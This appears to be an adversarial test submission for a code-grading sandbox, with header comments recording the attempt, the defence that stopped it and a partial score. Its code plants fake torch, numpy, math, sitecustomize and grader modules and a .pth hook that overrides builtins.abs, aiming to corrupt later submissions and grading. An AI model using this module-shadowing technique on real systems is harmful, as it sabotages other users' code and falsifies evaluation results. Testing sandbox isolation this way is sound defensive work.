# Tries: to leave modules that the next submission imports in torch's and numpy's place, beside it and above it.
# Stopped by: modules are imported once, before any student's code; each child has a folder of its own.
# Score: HALF
# Process: yes
import os
import pathlib

code = "import builtins\ndef __getattr__(name): raise AttributeError(name)\nbuiltins.abs = lambda x: 0.0\n"
for folder in {".", "..", os.environ.get("HOME", "."), os.environ.get("TMPDIR", "."), os.path.expanduser("~")}:
    inner = pathlib.Path(folder) / "lib/python3.11/site-packages"
    try:
        inner.mkdir(parents=True, exist_ok=True)
        for name in ("torch", "numpy", "math", "sitecustomize", "usercustomize", "json", "grader"):
            (pathlib.Path(folder) / f"{name}.py").write_text(code)
            (inner / f"{name}.py").write_text(code)
        (inner / "attack.pth").write_text("import builtins; builtins.abs = lambda x: 0.0\n")
        (pathlib.Path(folder) / "pyvenv.cfg").write_text("home = /tmp\ninclude-system-site-packages = false\n")
    except OSError:
        pass
